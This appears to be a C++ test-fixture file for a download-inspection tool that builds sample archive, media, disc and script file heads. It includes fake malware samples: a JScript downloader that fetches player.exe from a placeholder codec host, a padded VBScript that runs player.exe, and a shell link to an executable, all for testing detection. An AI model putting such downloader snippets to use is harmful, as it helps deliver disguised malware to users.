#include "Samples.h"

#include <sstream>
#include <stdexcept>

#include "PartMetBuilder.h"
#include "common/FileUtil.h"
#include "platform/ReplacedFile.h"
#include "ed2k/PartMetReader.h"

namespace kv::test {

std::string LE(uint64_t v, int n) {
    std::string out;
    for (int i = 0; i < n; ++i) out += static_cast<char>((v >> (8 * i)) & 0xFF);
    return out;
}

std::string BE(uint64_t v, int n) {
    const std::string le = LE(v, n);
    return {le.rbegin(), le.rend()};
}

namespace {

uint32_t Crc32(const std::string& s) {
    uint32_t crc = 0xFFFFFFFF;
    for (unsigned char c : s) {
        crc ^= c;
        for (int k = 0; k < 8; ++k) crc = (crc >> 1) ^ (0xEDB88320 & (0 - (crc & 1)));
    }
    return ~crc;
}

std::string VInt(uint64_t v) {
    std::string out;
    do {
        out += static_cast<char>((v & 0x7F) | (v > 0x7F ? 0x80 : 0));
        v >>= 7;
    } while (v);
    return out;
}

std::string Utf16(const std::string& ascii) {
    std::string out;
    for (char c : ascii) out += std::string(1, c) + '\0';
    return out;
}

// The 12 bytes that start every raw CD sector.
const std::string kSync = Bytes("\x00\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x00");

// RAR 4 block: CRC16 (low half of CRC32 of the rest), type, flags, size, body.
std::string Rar4Block(uint8_t type, uint16_t flags, const std::string& body) {
    const std::string rest = std::string(1, static_cast<char>(type)) + LE(flags, 2) + LE(7 + body.size(), 2) + body;
    return LE(Crc32(rest) & 0xFFFF, 2) + rest;
}

// RAR 5 block: CRC32 of size and header, header size, header.
std::string Rar5Block(const std::string& header) {
    const std::string sized = VInt(header.size()) + header;
    return LE(Crc32(sized), 4) + sized;
}

}  // namespace

std::string Sample(const std::string& name) {
    if (name == "iso9660") return std::string(0x8000, '\0') + Sample("iso9660-at-8000");
    if (name == "udf") return std::string(0x8000, '\0') + Sample("udf-at-8000");
    if (name.starts_with("iso-") && !name.ends_with("-at-8000")) return std::string(0x8000, '\0') + Sample(name + "-at-8000");
    auto bytes = ReadWholeFile(std::string(KV_INSPECT_DATA) + "/" + name + ".head");
    if (!bytes) throw std::runtime_error("missing sample " + name);
    return *bytes;
}

uint64_t SampleSize(const std::string& name) {
    const auto text = ReadWholeFile(std::string(KV_INSPECT_DATA) + "/sizes.txt");
    std::istringstream lines(text.value_or(""));
    std::string sample;
    uint64_t size = 0;
    while (lines >> sample >> size)
        if (sample == name) return size;
    throw std::runtime_error("no size for sample " + name);
}

// Inserts an object first into an ASF head's header object, fixing its size and count.
std::string InsertAsfObject(const std::string& asf, const std::string& object) {
    uint64_t size = 0, count = 0;
    for (int i = 7; i >= 0; --i) size = (size << 8) | static_cast<unsigned char>(asf[16 + i]);
    for (int i = 3; i >= 0; --i) count = (count << 8) | static_cast<unsigned char>(asf[24 + i]);
    return asf.substr(0, 16) + LE(size + object.size(), 8) + LE(count + 1, 4) + asf.substr(28, 2) + object +
           asf.substr(30);
}

std::string WithScriptCommands(const std::string& asf, const std::vector<std::string>& urls,
                               const std::vector<std::string>& files) {
    // Reserved GUID, command count, type count, types (length in characters
    // with the terminating NUL, UTF-16 name and NUL), commands (time in ms,
    // type index, length, UTF-16 text and NUL).
    const auto text = [](const std::string& s) { return LE(s.size() + 1, 2) + Utf16(s) + std::string(2, '\0'); };
    std::string body = std::string(16, '\0') + LE(urls.size() + files.size() + 1, 2) + LE(3, 2);
    for (const std::string type : {"URL", "CAPTION", "FILENAME"}) body += text(type);
    uint32_t time = 1000;
    for (const auto& url : urls) body += LE(time += 5000, 4) + LE(0, 2) + text(url);
    body += LE(0, 4) + LE(1, 2) + text("Hello");
    for (const auto& file : files) body += LE(time += 5000, 4) + LE(2, 2) + text(file);
    const std::string object = Bytes("\x30\x1A\xFB\x1E\x62\x0B\xD0\x11\xA3\x9B\x00\xA0\xC9\x03\x48\xF6") +
                               LE(24 + body.size(), 8) + body;
    return InsertAsfObject(asf, object);
}

std::string WithExtensionDrm(const std::string& asf, DrmObject which) {
    std::string object;
    if (which == DrmObject::Advanced) {
        // One content encryption system (PlayReady's id), version 1, no encrypted object records.
        const std::string data = LE(1, 2) + Bytes("\x79\xF0\x04\x9A\x40\x98\x86\x42\xAB\x92\xE6\x5B\xE0\x88\x5F\x95") +
                                 LE(1, 4) + LE(0, 2);
        object = Bytes("\x33\x85\x05\x43\x81\x69\xE6\x49\x9B\x74\xAD\x12\xCB\x86\xD5\x8C") +
                 LE(24 + data.size(), 8) + data;
    } else {
        // The top-level object built by LockWithDrm, taken out of its header.
        const std::string locked = LockWithDrm(asf, "http://licence.example.invalid/", which == DrmObject::Extended);
        uint64_t n = 0;
        for (int i = 7; i >= 0; --i) n = (n << 8) | static_cast<unsigned char>(locked[30 + 16 + i]);
        object = locked.substr(30, n);
    }
    // Into the Header Extension object's data, fixing its sizes and the header's.
    const std::string guid = Bytes("\xB5\x03\xBF\x5F\x2E\xA9\xCF\x11\x8E\xE3\x00\xC0\x0C\x20\x53\x65");
    const size_t at = asf.find(guid);
    if (at == std::string::npos) throw std::runtime_error("no header extension object");
    const auto read = [&](size_t from, int n) {
        uint64_t v = 0;
        for (int i = n - 1; i >= 0; --i) v = (v << 8) | static_cast<unsigned char>(asf[from + static_cast<size_t>(i)]);
        return v;
    };
    const uint64_t extSize = read(at + 16, 8), dataSize = read(at + 42, 4), headerSize = read(16, 8);
    std::string out = asf;
    out.insert(at + extSize, object);
    out = Patch(Patch(Patch(out, at + 16, LE(extSize + object.size(), 8)), at + 42, LE(dataSize + object.size(), 4)), 16,
                LE(headerSize + object.size(), 8));
    return out;
}

std::string ShellLink(const std::string& target, const std::string& arguments) {
    // Header: size 0x4C, CLSID 00021401-0000-0000-C000-000000000046, flags
    // HasRelativePath | HasArguments | IsUnicode, attributes, times, size,
    // icon, show command, hot key; then counted UTF-16 strings.
    std::string link = LE(0x4C, 4) + Bytes("\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46") +
                       LE(0x08 | 0x20 | 0x80, 4) + LE(0x20, 4) + std::string(24, '\0') + LE(0, 4) + LE(0, 4) +
                       LE(1, 4) + LE(0, 2) + std::string(10, '\0');
    link += LE(target.size(), 2) + Utf16(target) + LE(arguments.size(), 2) + Utf16(arguments);
    return link + LE(0, 4);
}

std::string VideoCdDat(const std::string& mpegPs) {
    // RIFF CDXA: a fmt chunk of the XA attributes, then data: Mode 2 Form 2
    // sectors of sync, header, subheader and 2,324 bytes of the stream.
    std::string sectors;
    for (size_t at = 0, n = 0; at < mpegPs.size(); at += 2324, ++n) {
        std::string payload = mpegPs.substr(at, 2324);
        payload.resize(2324, '\0');
        const std::string subheader = Bytes("\x01\x01\x62\x0F\x01\x01\x62\x0F");
        sectors += kSync + Bytes("\x00\x02") + static_cast<char>(n) + "\x02" + subheader + payload + LE(0, 4);
    }
    const std::string fmt = "fmt " + LE(16, 4) + LE(0, 4) + LE(0, 4) + "\x11\x11XA" + LE(1, 1) + std::string(5, '\0');
    const std::string data = "data" + LE(sectors.size(), 4) + sectors;
    return "RIFF" + LE(4 + fmt.size() + data.size(), 4) + "CDXA" + fmt + data;
}

std::string Midi() {
    // Header chunk (format 0, one track, 96 ticks a beat), then a track of
    // note-on/off pairs and the end-of-track event.
    std::string track;
    for (int i = 0; i < 400; ++i) {
        const char note = static_cast<char>(60 + i % 12);
        track += Bytes("\x00\x90") + note + "\x40" + Bytes("\x60\x80") + note + '\0';
    }
    track += std::string("\x00\xFF\x2F\x00", 4);
    return "MThd" + BE(6, 4) + BE(0, 2) + BE(1, 2) + BE(96, 2) + "MTrk" + BE(track.size(), 4) + track;
}

std::string LockWithDrm(const std::string& asf, const std::string& url, bool extended) {
    std::string data;
    if (extended) {
        std::string xml = "<WRMHEADER version=\"2.0.0.0\"><DATA><KID>a2V5</KID>";
        if (!url.empty()) xml += "<LA_URL>" + url + "</LA_URL>";
        data = Utf16(xml + "</DATA></WRMHEADER>");
        data = Bytes("\x14\xE6\x8A\x29\x22\x26\x17\x4C\xB9\x35\xDA\xE0\x7E\xE9\x28\x9C") + LE(24 + 4 + data.size(), 8) +
               LE(data.size(), 4) + data;
    } else {
        const std::string lic = url.empty() ? "" : url + '\0';
        data = LE(5, 4) + "s3cr3" + LE(4, 4) + Bytes("DRM\0") + LE(8, 4) + "keyid=42" + LE(lic.size(), 4) + lic;
        data = Bytes("\xFB\xB3\x11\x22\x23\xBD\xD2\x11\xB4\xB7\x00\xA0\xC9\x55\xFC\x6E") + LE(24 + data.size(), 8) +
               data;
    }
    return InsertAsfObject(asf, data);
}

std::string WithFrameTime(const std::string& asf, int stream, uint64_t hundredNanoseconds) {
    // Start and end time, bit rates, buffer sizes and fullness, the largest
    // object, flags, stream number, language, the average time a frame, then
    // no stream names and no payload extensions.
    const std::string esp = LE(0, 8) + LE(0, 8) + LE(500000, 4) + LE(3000, 4) + LE(3000, 4) + LE(0, 4) + LE(0, 4) +
                            LE(0, 4) + LE(0, 4) + LE(2, 4) + LE(stream, 2) + LE(0, 2) + LE(hundredNanoseconds, 8) +
                            LE(0, 2) + LE(0, 2);
    const std::string object = Bytes("\xCB\xA5\xE6\x14\x72\xC6\x32\x43\x83\x99\xA9\x69\x52\x06\x5B\x5A") +
                               LE(24 + esp.size(), 8) + esp;
    // Header Extension: reserved GUID ABD3D211-A9BA-11CF-8EE6-00C00C205365, reserved 6, data size.
    const std::string data = Bytes("\x11\xD2\xD3\xAB\xBA\xA9\xCF\x11\x8E\xE6\x00\xC0\x0C\x20\x53\x65") + LE(6, 2) +
                             LE(object.size(), 4) + object;
    return InsertAsfObject(asf, Bytes("\xB5\x03\xBF\x5F\x2E\xA9\xCF\x11\x8E\xE3\x00\xC0\x0C\x20\x53\x65") +
                                    LE(24 + data.size(), 8) + data);
}

std::string Rar4(RarLock lock) {
    const std::string name = "film.avi";
    const std::string file = LE(20000, 4) + LE(20000, 4) + "\x03" + LE(0x12345678, 4) + LE(0x5A8D1234, 4) + "\x1D" +
                             "\x33" + LE(name.size(), 2) + LE(0x81A4, 4) + name;
    const uint16_t fileFlags = 0x8000 | (lock == RarLock::FileEncrypted ? 0x0004 : 0);
    std::string out = "Rar!\x1A\x07" + std::string(1, '\0');
    out += Rar4Block(0x73, lock == RarLock::HeadersEncrypted ? 0x0080 : 0, std::string(6, '\0'));
    if (lock == RarLock::HeadersEncrypted) return out + std::string(8192 - out.size(), '\x5C');  // salt + ciphertext
    out += Rar4Block(0x74, fileFlags, file);
    out += std::string(20000, '\x11');
    return out.substr(0, 8192);
}

std::string Rar5(RarLock lock) {
    std::string out = "Rar!\x1A\x07\x01" + std::string(1, '\0');
    out += Rar5Block(VInt(1) + VInt(0) + VInt(0));  // main archive header
    const std::string crypt = VInt(0) + VInt(0) + "\x0F" + std::string(16, '\x5A');  // version, flags, KDF, salt
    if (lock == RarLock::HeadersEncrypted) {  // the encryption header comes first
        out.insert(8, Rar5Block(VInt(4) + VInt(0) + crypt));
        return out + std::string(8192 - out.size(), '\x5C');
    }
    const std::string name = "film.avi";
    std::string extra;
    if (lock == RarLock::FileEncrypted) {
        const std::string rec = VInt(1) + crypt + std::string(16, '\x42');  // + IV
        extra = VInt(rec.size()) + rec;
    }
    std::string header = VInt(2) + VInt(extra.empty() ? 0x02 : 0x03);
    if (!extra.empty()) header += VInt(extra.size());
    header += VInt(20000) + VInt(0) + VInt(20000) + VInt(0x1A4) + VInt(0) + VInt(1) + VInt(name.size()) + name + extra;
    out += Rar5Block(header) + std::string(20000, '\x11');
    return out.substr(0, 8192);
}

namespace {

using F = inspect::Format;
using Names = std::vector<std::string>;

CleanFile Real(const std::string& sample, F format, Names names, Names usual = {}, bool encrypted = false) {
    return {sample, Sample(sample), SampleSize(sample), format, std::move(names), std::move(usual), encrypted};
}

CleanFile Built(const std::string& what, const std::string& head, F format, Names names, bool encrypted = false,
                uint64_t size = 0) {
    return {what, head, size ? size : head.size(), format, std::move(names), {}, encrypted};
}

const std::string kAsx =
    "<ASX version=\"3.0\">\r\n  <Title>Film</Title>\r\n  <Entry>\r\n    <Ref href=\"mms://stream.example.invalid/film\"/>\r\n"
    "  </Entry>\r\n</ASX>\r\n";
const std::string kUrlFile =
    "[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n[InternetShortcut]\r\nIDList=\r\n"
    "URL=http://codec.example.invalid/film.php\r\n";
const std::string kJScript =
    "var shell = new ActiveXObject(\"WScript.Shell\");\r\nvar http = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
    "http.open(\"GET\", \"http://codec.example.invalid/player.exe\", false);\r\nhttp.send();\r\n";
// The call 134 bytes in: past the sniffer's first block of 128, which holds
// letters a call starts with, in a shorter last one. No blank before it, so
// that no cut of it is text.
const std::string kVbScript = "'" + std::string(64, '-') + "wag" + std::string(64, '-') +
                              "\r\nCREATEOBJECT(\"WScript.Shell\").Run \"player.exe\"\r\n";

}  // namespace

const std::string& AsxPlaylist() { return kAsx; }
const std::string& InternetShortcutFile() { return kUrlFile; }
const std::string& JScriptDownloader() { return kJScript; }

std::vector<CleanFile> Corpus() {
    const auto lnk = ShellLink("C:\\x.exe", "http://example.invalid/");
    return {
        Real("avi", F::Avi, {"Film.DVDRip.avi", "film.divx", "film.xvid", "movie.exe"}),
        Real("avi-odml", F::Avi, {"Film (1999) DVDRip.avi"}),
        Real("mkv", F::Matroska, {"film.mkv", "film.mk3d"}, {"film.avi"}),
        Real("mkvmerge", F::Matroska, {"film.mkv"}, {"film.avi", "film.webm"}),
        Real("webm", F::Matroska, {"clip.webm", "clip.mkv"}, {"clip.avi"}), Real("mka", F::Matroska, {"album.mka"}),
        Real("remux-40mbit", F::Matroska, {"Film.2008.1080p.BluRay.REMUX.sample.mkv"}, {"sample.avi"}),
        Real("mp4", F::Mp4, {"film.mp4", "film.m4v", "film.mov"}, {"film.avi", "film.flv"}),
        Real("mp4-faststart", F::Mp4, {"film.mp4"}, {"film.avi"}),
        Real("m4v", F::Mp4, {"film.m4v", "film.mp4"}, {"film.avi"}),
        Real("mov", F::Mov, {"film.mov", "film.qt", "film.mp4"}, {"film.avi"}),
        Real("3gp", F::Mp4, {"clip.3gp", "clip.mp4"}),
        Real("mpeg-ps", F::MpegPs, {"film.mpg", "film.mpeg", "film.vob"}, {"film.avi"}),
        Real("vob", F::MpegPs, {"VTS_01_1.VOB", "film.mpg"}, {"film.avi"}),
        Built("video cd", VideoCdDat(Sample("mpeg-ps")), F::MpegPs, {"AVSEQ01.DAT", "film.mpg"}, false, 3 << 20),
        Real("mpeg-ts", F::MpegTs, {"rec.ts", "rec.mpg", "rec.m2ts"}, {"rec.avi"}),
        Real("m2ts", F::MpegTs, {"00001.m2ts", "00001.mts", "00001.ts"}, {"00001.avi"}),
        Real("flv", F::Flv, {"clip.flv"}, {"clip.avi"}),
        Real("wmv", F::Asf, {"film.wmv", "film.asf"}, {"film.avi", "film.mpg"}), Real("wma", F::Asf, {"song.wma"}),
        Real("rm", F::RealMedia, {"film.rm", "film.rmvb"}, {"film.avi"}),
        Real("ogg", F::Ogg, {"film.ogv", "film.ogm", "film.ogg"}, {"film.avi"}), Real("ogm", F::Ogg, {"film.ogm"}),
        Real("vorbis", F::Ogg, {"song.ogg", "song.oga"}), Real("opus", F::Ogg, {"song.opus", "song.ogg"}),
        Real("swf", F::Swf, {"movie.swf"}),
        Real("mp3-id3", F::Mp3, {"song.mp3"}), Real("mp3-frames", F::Mp3, {"song.mp3"}),
        Real("mp3-vbr", F::Mp3, {"01 - Song (VBR V0).mp3"}), Real("mp3-lame", F::Mp3, {"song.mp3"}),
        Real("mp3-in-wav", F::Wav, {"song.mp3", "song.wav"}), Real("mp2", F::Mp3, {"song.mp2", "song.mpa", "song.mp3"}),
        Real("aac-adts", F::Adts, {"song.aac"}), Real("m4a", F::Mp4, {"song.m4a", "book.m4b", "song.mp4"}),
        Real("alac", F::Mp4, {"song.m4a", "song.alac"}), Real("ac3", F::Ac3, {"track.ac3"}),
        Real("dts", F::Dts, {"track.dts"}), Real("flac", F::Flac, {"song.flac"}),
        Real("flac-tool", F::Flac, {"song.flac"}), Real("wavpack", F::WavPack, {"song.wv"}),
        Real("musepack", F::Musepack, {"song.mpc"}), Real("tta", F::Tta, {"song.tta"}),
        Real("aiff", F::Aiff, {"song.aiff", "song.aif"}), Real("wav", F::Wav, {"song.wav"}),
        Real("sox-wav", F::Wav, {"song.wav"}), Real("rf64", F::Wav, {"song.wav"}),
        Built("midi", Midi(), F::Midi, {"song.mid"}),
        // Video whose codec spends any number of bits a pixel, and lossy video at a high quality.
        Real("ffv1-mkv", F::Matroska, {"capture.mkv"}, {"capture.avi"}), Real("ffv1-avi", F::Avi, {"capture.avi"}),
        Real("prores-4444", F::Mov, {"master.mov", "master.mp4"}), Real("dnxhr", F::Mov, {"edit.mov"}),
        Real("dnxhd-mkv", F::Matroska, {"edit.mkv"}), Real("huffyuv", F::Avi, {"capture.avi"}),
        Real("utvideo", F::Avi, {"capture.avi"}), Real("utvideo-mkv", F::Matroska, {"capture.mkv"}),
        Real("mjpeg", F::Avi, {"camera.avi"}), Real("rawvideo-mkv", F::Matroska, {"raw.mkv"}),
        Real("uyvy-mov", F::Mov, {"raw.mov"}), Real("v210", F::Mov, {"raw.mov"}),
        Real("x264-lossless", F::Matroska, {"screen.mkv"}, {"screen.avi"}),
        Real("x264-lossless-mp4", F::Mp4, {"screen.mp4"}), Real("x264-lossless-flv", F::Flv, {"screen.flv"}),
        Real("x264-intra-422", F::Matroska, {"camera.mkv"}), Real("x265-lossless", F::Matroska, {"film.mkv"}),
        Real("hevc", F::Mp4, {"film.mp4"}), Real("av1", F::Matroska, {"film.mkv"}), Real("vp9", F::Matroska, {"film.webm"}),
        Real("x264-crf18", F::Mp4, {"film.mp4"}), Real("x264-444", F::Matroska, {"film.mkv"}),
        // Audio with its pictures and tags; sound-only containers.
        Real("flac-scans", F::Flac, {"01 - Track.flac"}), Real("mp3-apic", F::Mp3, {"01 - Track.mp3"}),
        Real("m4b-cover", F::Mp4, {"Book.m4b", "Book.m4a"}, {"Book.mp3"}),
        Real("webm-audio", F::Matroska, {"song.webm", "song.mka"}, {"song.mp3"}),
        Real("mka-ac3", F::Matroska, {"track.mka"}, {"track.mp3", "track.ac3"}),
        Real("jpeg", F::Jpeg, {"photo.jpg", "photo.jpeg"}), Real("png", F::Png, {"photo.png", "photo.bmp"}),
        Real("gif", F::Gif, {"anim.gif"}), Real("bmp", F::Bmp, {"photo.bmp"}),
        Real("tiff", F::Tiff, {"scan.tif", "scan.tiff"}), Real("djvu", F::DjVu, {"book.djvu"}),
        Real("pdf", F::Pdf, {"book.pdf"}), Real("epub", F::OfficeDoc, {"book.epub"}),
        Real("docx", F::OfficeDoc, {"paper.docx"}), Real("odt", F::OfficeDoc, {"paper.odt"}),
        Real("cbz", F::Zip, {"comic.cbz"}), Real("zip", F::Zip, {"files.zip", "game.jar", "app.apk", "book.epub"}),
        Real("zip-encrypted", F::Zip, {"files.zip"}, {}, true), Real("zip-aes", F::Zip, {"files.zip"}, {}, true),
        Real("7z", F::SevenZip, {"files.7z"}), Real("7z-encrypted", F::SevenZip, {"files.7z"}),
        Real("7z-volume", F::SevenZip, {"files.7z.001"}), Real("tar-gz", F::Gzip, {"files.tar.gz", "files.tgz"}),
        Real("gzip", F::Gzip, {"file.gz"}), Real("bzip2", F::Bzip2, {"file.bz2"}), Real("xz", F::Xz, {"file.xz"}),
        Real("tar", F::Tar, {"files.tar"}), Real("cab", F::Cab, {"files.cab"}), Real("arj", F::Arj, {"files.arj"}),
        Built("rar4", Rar4(RarLock::None), F::Rar4, {"files.rar", "comic.cbr"}),
        Built("rar4 file", Rar4(RarLock::FileEncrypted), F::Rar4, {"files.rar"}, true),
        Built("rar4 headers", Rar4(RarLock::HeadersEncrypted), F::Rar4, {"files.rar"}, true),
        Built("rar5", Rar5(RarLock::None), F::Rar5, {"files.rar", "files.r00"}),
        Built("rar5 file", Rar5(RarLock::FileEncrypted), F::Rar5, {"files.rar"}, true),
        Built("rar5 headers", Rar5(RarLock::HeadersEncrypted), F::Rar5, {"files.rar"}, true),
        Real("msi", F::Msi, {"setup.msi"}), Real("deb", F::Unknown, {"film_1_all.deb"}),
        Real("pe", F::Pe, {"setup.exe", "noextension", "file.xyz"}),
        // Linux installers are shared as .bin and .run.
        Real("elf", F::Elf, {"program", "installer.bin", "setup.run"}),
        Real("makeself", F::ShellScript, {"Player-1.0-Linux-installer.run", "player-linux.bin", "install.sh"}),
        Built("shell", Sample("shell"), F::ShellScript, {"install.sh"}),
        Built("batch", Sample("batch"), F::BatchScript, {"install.bat"}),
        Built("shortcut", lnk, F::ShellLink, {"Film.lnk"}),
        Real("srt", F::Text, {"film.srt", "film.sub", "film.txt"}), Real("html", F::Html, {"index.html", "index.htm"}),
        Built("iso9660", Sample("iso9660"), F::Iso9660, {"disc.iso", "disc.bin", "disc.mdf"}, false, 700000000),
        Built("udf", Sample("udf"), F::Iso9660, {"disc.iso", "disc.udf", "disc.img"}, false, 4700000000),
        Real("iso-joliet", F::Iso9660, {"disc.iso", "disc.img", "disc.nrg", "disc.mdf"}),
        Real("iso-udf", F::Iso9660, {"disc.iso", "disc.img"}),
        Real("fat", F::Unknown, {"floppy.img", "disk.img"}), Real("mbr", F::Unknown, {"usb-stick.img"}),
        Real("gpt", F::Unknown, {"disk.img"}),
        // Pointers elsewhere under their own names, a playlist also under a video name at its own size (a note).
        {"asx playlist", kAsx, kAsx.size(), F::Playlist, {"stream.asx", "stream.wvx"}, {"stream.wmv", "stream.mp3"}, false},
        Built("internet shortcut", kUrlFile, F::InternetShortcut, {"Film site.url"}),
        Built("jscript", kJScript, F::WindowsScript, {"setup.js"}),
        Built("vbscript", kVbScript, F::WindowsScript, {"setup.vbs"}),
    };
}

LaidOut LayOut(const std::string& dir, const std::string& name, const std::string& head, uint64_t size,
               const std::vector<ByteRange>& gaps, const std::vector<Ed2kHash>& partHashes,
               const std::string& stem) {
    LaidOut d{dir + "/" + stem + ".part.met", dir + "/" + stem + ".part", {}};
    PartMetLayout meta;
    meta.name = name;
    meta.size = size;
    uint8_t seed = 0;  // a hash of its own for each download
    for (const char c : stem + name) seed = static_cast<uint8_t>(seed * 31 + static_cast<uint8_t>(c));
    meta.hash = SequentialHash(seed);
    const bool wide = size > 4290048000ULL;
    for (size_t i = 0; i < gaps.size(); ++i) {
        meta.extraTags.push_back(TagGap(true, static_cast<int>(i), gaps[i].begin, wide));
        meta.extraTags.push_back(TagGap(false, static_cast<int>(i), gaps[i].end, wide));
    }
    meta.version = wide ? 0xE2 : 0xE0;
    std::string met = BuildPartMet(meta);  // no part hashes: put the real ones in at 21
    std::string hashes = LE(partHashes.size(), 2);
    for (const auto& h : partHashes) hashes.append(reinterpret_cast<const char*>(h.bytes().data()), 16);
    met.replace(21, 2, hashes);
    if (!WriteFileAtomic(d.metPath, met)) throw std::runtime_error("cannot write " + d.metPath);

    // The .part ends after its last present byte, as a client's sparse file reads.
    std::string part = head;
    for (const auto& g : gaps)
        for (uint64_t i = g.begin; i < g.end && i < part.size(); ++i) part[i] = '\0';
    for (size_t n = 0; n < gaps.size(); ++n)  // each pass cuts at most one more gap off the end
        for (const auto& g : gaps)
            if (g.begin < part.size() && g.end >= part.size()) part.resize(g.begin);
    if (!WriteFileAtomic(d.partPath, part)) throw std::runtime_error("cannot write " + d.partPath);
    d.download = *ReadPartMet(d.metPath);
    return d;
}

}  // namespace kv::test
